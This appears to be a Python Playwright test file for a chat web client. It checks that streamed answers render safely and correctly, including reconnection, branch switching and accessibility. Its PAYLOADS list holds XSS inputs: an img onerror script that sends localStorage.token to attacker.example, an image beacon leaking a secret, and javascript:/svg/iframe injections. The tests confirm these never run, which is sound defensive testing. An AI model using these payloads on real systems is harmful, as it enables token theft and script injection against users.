"""Answers that stream in, played event by event: what the reader sees, and what cannot happen to them."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.web.conftest import OpenPage
from tests.web.scripted import ScriptedResponse, ScriptedServer

ANSWER = "article[aria-label='Answer']"

PAYLOADS = [
    "<img src=x onerror=\"window.__hacked = 1; fetch('https://attacker.example/?t=' + localStorage.token)\">",
    '<iframe srcdoc="<script>parent.__hacked = 1</script>"></iframe>',
    "[x](javascript:window.__hacked=1)",
    "```<script>\nwindow.__hacked = 1\n```",
    "<svg onload=window.__hacked=1>",
    "![](https://attacker.example/?q=secret)",
]


def ask(page: Page, text: str = "Hello") -> None:
    page.fill("#composer", text)
    page.keyboard.press("Enter")


@pytest.fixture
def page(open_page: OpenPage, script: ScriptedServer) -> Page:
    return open_page(before=script.attach)


def begin(page: Page, script: ScriptedServer, number: int = 0) -> ScriptedResponse:
    ask(page)
    return script.response(page, number).begin()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_output_cannot_run_or_fetch_anything(page: Page, script: ScriptedServer, payload: str) -> None:
    response = begin(page, script)
    for character in payload:
        response.write(character)
    response.end()
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    for link in page.locator(f"{ANSWER} a").all():
        assert (link.get_attribute("href") or "https:").startswith("https:")
    assert page.locator(f"{ANSWER} :is(img, iframe, svg:not([aria-hidden]), script)").count() == 0
    assert page.evaluate("window.__hacked") is None


def test_a_title_is_text(page: Page, script: ScriptedServer) -> None:
    ask(page, PAYLOADS[0])
    script.response(page).begin().end()
    expect(page.locator("h1")).to_contain_text("<img src=x")
    assert page.evaluate("window.__hacked") is None


def test_the_final_answer_is_the_one_shot_rendering(page: Page, script: ScriptedServer) -> None:
    text = "# T\n\n- a\n- **b\n\n```python\nx = 1\n``\n```\n\n| a |\n|---|\n| 1 |\n\n$$x$$ `open\n\nend"
    response = begin(page, script)
    for start in range(0, len(text), 3):
        response.write(text[start : start + 3])
        page.wait_for_timeout(10)
    response.end()
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    streamed = page.locator(f"{ANSWER} .prose").inner_html()
    page.get_by_role("button", name="Answer again").click()
    script.response(page, 1).begin().write(text).end()
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    assert page.locator(f"{ANSWER} .prose").inner_html() == streamed


def test_code_is_highlighted_and_can_be_copied(page: Page, script: ScriptedServer) -> None:
    begin(page, script).write("```python\ndef f():\n    return 1\n```\n").end()
    expect(page.locator(f"{ANSWER} pre .hljs-keyword")).to_have_text(["def", "return"])
    page.locator(ANSWER).get_by_text("Copy", exact=True).click()
    expect(page.locator(ANSWER).get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "def f():\n    return 1\n"


def test_a_selection_survives_while_text_streams_in(page: Page, script: ScriptedServer) -> None:
    response = begin(page, script).write("- first words\n- second")
    page.locator(f"{ANSWER} li").first.select_text()
    for _ in range(5):
        response.write(" more", "\n- item")
        page.wait_for_timeout(60)
    assert page.evaluate("getSelection().toString()").strip() == "first words"


def test_preemption_is_told_and_ends(page: Page, script: ScriptedServer) -> None:
    response = begin(page, script).write("One")
    response.emit("chatsrv.preempted", response_id="resp_0")
    expect(page.get_by_text("Paused: others need the memory")).to_be_visible()
    response.emit("chatsrv.resumed", response_id="resp_0")
    response.write(" two").end()
    expect(page.get_by_text("Paused")).to_have_count(0)
    expect(page.locator(ANSWER)).to_contain_text("One two")


def test_figures_of_an_answer(page: Page, script: ScriptedServer) -> None:
    response = begin(page, script).write("Hi")
    response.end(chatsrv={"ttft_s": 0.5, "tokens_per_s": 41.5, "num_dropped_items": 3})
    expect(page.locator(ANSWER)).to_contain_text("41.5 tokens/s")
    expect(page.locator(ANSWER)).to_contain_text("80% from cache")
    expect(page.get_by_text("The 3 oldest messages no longer fit")).to_be_visible()
    expect(page.get_by_role("meter")).to_have_attribute("aria-valuenow", "50")


def test_a_failed_answer_says_why_and_can_be_tried_again(page: Page, script: ScriptedServer) -> None:
    response = begin(page, script).write("Hal")
    response.end("failed", error={"code": "server_error", "message": "The engine stopped."})
    expect(page.get_by_role("alert")).to_contain_text("The engine stopped.")
    page.get_by_role("button", name="Try again").click()
    assert script.response(page, 1).request["parent_id"] == "msg_question0"


def test_several_answers_side_by_side(page: Page, script: ScriptedServer) -> None:
    page.keyboard.press("Control+,")
    page.get_by_label("Answers to each question").select_option("3")
    page.get_by_role("button", name="Close").click()
    script_first = begin(page, script)
    others = [script.response(page, number).begin() for number in (1, 2)]
    assert {other.request["parent_id"] for other in others} == {"msg_question0"}
    for number, response in enumerate([script_first, *others]):
        response.write(f"Answer number {number}").end()
    expect(page.locator(ANSWER)).to_have_count(3)
    page.get_by_role("button", name="Continue with this one").nth(1).click()
    expect(page.locator(ANSWER)).to_have_count(1)
    expect(page.locator(ANSWER)).to_contain_text("Answer number 1")
    ask(page, "And then?")
    assert script.response(page, 3).request["parent_id"] == "msg_answer1"


def test_a_lost_connection_is_told_and_the_answer_goes_on(page: Page, script: ScriptedServer) -> None:
    response = begin(page, script).write("Before")
    expect(page.locator(ANSWER)).to_contain_text("Before")
    script.drop()
    expect(page.get_by_text("No connection.")).to_be_visible()
    page.get_by_role("button", name="Connect now").click()
    expect(page.get_by_text("No connection.")).to_have_count(0)
    resume = script.requests[-1]
    assert (resume["type"], resume["response_id"], resume["starting_after"]) == ("response.resume", "resp_0", 3)
    assert response.request["stream_id"] == resume["stream_id"]


def test_an_answer_deleted_by_a_switch_of_branches_stays_where_it_is(page: Page, script: ScriptedServer) -> None:
    first = begin(page, script).write("First")
    page.locator("article[aria-label='You']").hover()
    page.get_by_role("button", name="Edit").click()
    page.get_by_label("Edit your message").fill("Hello again")
    page.keyboard.press("Enter")
    second = script.response(page, 1).begin().write("Second")
    first.write(" goes on").end()
    second.write(" too").end()
    expect(page.locator(ANSWER)).to_contain_text("Second too")
    page.locator("article[aria-label='You']").hover()
    page.get_by_role("button", name="Previous version").first.click()
    expect(page.locator(ANSWER)).to_contain_text("First goes on")


def test_a_screen_reader_hears_the_end_and_not_every_word(page: Page, script: ScriptedServer) -> None:
    page.evaluate(
        """() => {
          window.heard = [];
          const note = () => {
            for (const place of document.querySelectorAll('[role=status]')) window.heard.push(place.textContent);
          };
          new MutationObserver(note).observe(document.body, { subtree: true, childList: true, characterData: true });
        }"""
    )
    response = begin(page, script)
    for number in range(50):
        response.write(f"word{number} ")
    response.end()
    expect(page.get_by_text("Answer finished.")).to_be_attached()
    heard = {text.strip() for text in page.evaluate("window.heard")} - {""}
    assert heard == {"Answer finished."}
    assert page.locator("[aria-live=assertive]").count() == 0
